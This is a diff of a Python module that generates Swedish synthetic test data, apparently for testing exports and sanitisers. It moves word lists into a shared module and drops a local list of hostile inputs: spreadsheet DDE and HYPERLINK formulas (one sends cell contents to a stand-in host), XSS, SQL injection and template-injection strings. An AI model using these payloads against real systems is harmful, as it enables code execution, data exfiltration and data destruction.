@@ -2,47 +2,20 @@
 
 from __future__ import annotations
 
+from examples.common.words import AGENTS as AGENTS
+from examples.common.words import CITIES as CITIES
+from examples.common.words import FIRST as FIRST
+from examples.common.words import HOSTILE as HOSTILE
+from examples.common.words import LAST as LAST
+from examples.common.words import MAIL_HOSTS as MAIL_HOSTS
+from examples.common.words import STREETS as STREETS
+from examples.common.words import split
 
-def _words(text: str) -> tuple[str, ...]:
-    return tuple(text.split())
-
-
-FIRST = _words(
-    "Agnes Alva Amina Arvid Astrid Birgitta Bo Carina Conny Dagny Ebba Edvin Einar Ellen Elsa Emil "
-    "Filip Frida Gösta Greta Gunilla Hanna Hassan Henrik Inga Ivar Jonas Kajsa Leila Lovisa Märta Nadia "
-    "Nils Olof Pär Ragnhild Rut Saga Sixten Sölve Tage Tuva Ulf Valter Vera Yasmin Zoran Åke Åsa Örjan"
-)
-LAST = _words(
-    "Abrahamsson Alm Björk Boström Ceder Claesson Dalgren Edlund Ekholm Falk Fjellström Gran Grönlund "
-    "Hallberg Hägg Isaksson Jönsson Kvist Lindahl Ljung Mattsson Moradi Nordin Norrby Novak Palm "
-    "Petrović Rosén Sandell Sjödin Strömberg Sundin Tallberg Thorén Vikström Wallgren Yilmaz Åberg "
-    "Åström Östlund"
-)
-TRADES = _words(
+TRADES = split(
     "Bageri Bokföring Bygg Cykel El Fiske Foto Glas Keramik Måleri Rör Smide Trädgård Åkeri Översättning"
 )
-STREETS = _words(
-    "Almgatan Bryggvägen Fjordgränd Hamngränd Kvarnvägen Lotsgatan Rönnstigen Sjöstigen Ängsgatan Ögatan"
-)
-CITIES = (
-    ("100 04", "Stockholm"),
-    ("400 10", "Göteborg"),
-    ("200 10", "Malmö"),
-    ("700 03", "Örebro"),
-    ("720 03", "Västerås"),
-    ("350 03", "Växjö"),
-    ("900 10", "Umeå"),
-)
-MAIL_HOSTS = ("brevbrygga.example", "postlåda.example", "kustmejl.example")
-"""The second is an internationalised name; it is also written `xn--postlda-ixa.example`."""
-
 PLANS = {"start": 59_00, "plus": 119_00, "pro": 249_00, "server": 799_00}
 SERVICES = ("web", "mail", "server", "backup")
-AGENTS = (
-    "Mozilla/5.0 (X11; Linux x86_64) Firefox/133.0",
-    "Mozilla/5.0 (Windows NT 10.0) Chrome/131.0",
-    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1) Safari/605.1",
-)
 PANEL_PATHS = ("/in", "/panel", "/panel/domaner", "/panel/fakturor", "/panel/e-post", "/panel/profil")
 SITE_PATHS = ("/", "/om", "/kassa", "/kontakt", "/medlem/logga-in", "/blogg/hosten")
 STAFF = ("support", "drift", "ekonomi")
@@ -58,18 +31,6 @@ DIETS = ("vegetarisk", "glutenfritt", "nötallergi", "halal", "vegansk")
 EVENTS = ("Vårträff", "Säkerhetskväll", "Höstträff")
 POSITIONS = ("Supporttekniker", "Systemtekniker", "Utvecklare", "Säljare")
 SETTINGS = ("tema", "språk", "sidstorlek")
-HOSTILE = (
-    "=cmd|'/C calc'!A0",
-    '=HYPERLINK("https://skum.example/?x="&A1;"klicka")',
-    "<script>alert(1)</script>",
-    '"><img src=x onerror=alert(1)>',
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "'; DROP TABLE customers; --",
-    "＝1+1",
-    "{{7*7}} ${7*7} %s %(x)s",
-)
-"""What somebody types to harm whoever opens the package."""
-
 FROM_CUSTOMER = (
     "Hej! Jag heter {name} och kommer inte in. Kontot har adressen {mail}. Ring gärna {phone}.",
     "Hej, fakturan kom fel. Mitt personnummer är {pnr}. Adressen är {address}. /{first}",
